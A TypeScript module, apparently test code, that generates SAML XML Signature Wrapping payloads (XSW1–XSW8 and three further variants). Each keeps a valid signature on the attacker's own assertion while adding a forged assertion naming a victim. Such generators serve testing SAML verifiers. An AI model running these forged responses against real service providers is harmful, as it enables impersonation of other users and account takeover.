import type { Draft, IdentityProvider } from './identity-provider.ts';

const SIGNATURE = /<ds:Signature[ >].*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s;

/** The input of an attack: a signed response about the attacker, and the forged content. */
interface Loot {
  readonly signed: string;
  readonly signature: string;
  /** The assertion with its signature, and without. */
  readonly assertion: string;
  readonly bare: string;
  /** The unsigned assertion about the victim. */
  readonly evil: string;
}

const lootOf = (idp: IdentityProvider, { xml, assertionId }: Draft, self: string, victim: string): Loot => {
  const signed = idp.sign(xml, 'Assertion');
  const assertion = ASSERTION.exec(signed)![0];
  const bare = assertion.replace(SIGNATURE, '');
  const evil = bare.replace(self, victim).replace(assertionId, '_evil');
  return { signed, assertion, bare, evil, signature: SIGNATURE.exec(assertion)![0] };
};

const afterIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
const beforeEnd = (xml: string, name: string, more: string) => {
  const at = xml.lastIndexOf(`</${name}>`);
  return xml.slice(0, at) + more + xml.slice(at);
};

/** The published signature wrapping attacks by number: each keeps the signature valid and adds a forged assertion. */
export const signatureWrappings = (
  idp: IdentityProvider,
  draft: Draft,
  self: string,
  victim: string,
): Readonly<Record<string, string>> => {
  const { signed, assertion, bare, evil, signature } = lootOf(idp, draft, self, victim);
  const whole = idp.sign(draft.xml, 'Response');
  const wholeSignature = SIGNATURE.exec(whole)![0];
  const original = whole.replace(SIGNATURE, '');
  const evilResponse = original.replace(self, victim).replace(draft.responseId, '_evilResponse');
  const withAssertion = (replacement: string) => signed.replace(assertion, replacement);
  return {
    XSW1: afterIssuer(evilResponse, beforeEnd(wholeSignature, 'ds:Signature', original)),
    XSW2: afterIssuer(evilResponse, original + wholeSignature),
    XSW3: withAssertion(evil + assertion),
    XSW4: withAssertion(beforeEnd(evil, 'saml:Assertion', assertion)),
    XSW5: beforeEnd(withAssertion(afterIssuer(evil, signature)), 'samlp:Response', bare),
    XSW6: withAssertion(afterIssuer(evil, beforeEnd(signature, 'ds:Signature', bare))),
    XSW7: withAssertion(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
    XSW8: withAssertion(
      afterIssuer(evil, beforeEnd(signature, 'ds:Signature', `<ds:Object>${bare}</ds:Object>`)),
    ),
    'unsigned after signed': withAssertion(assertion + evil),
    'the same ID twice': withAssertion(evil.replace('_evil', draft.assertionId) + assertion),
    'signed by name alone': withAssertion(afterIssuer(evil, signature)),
  };
};
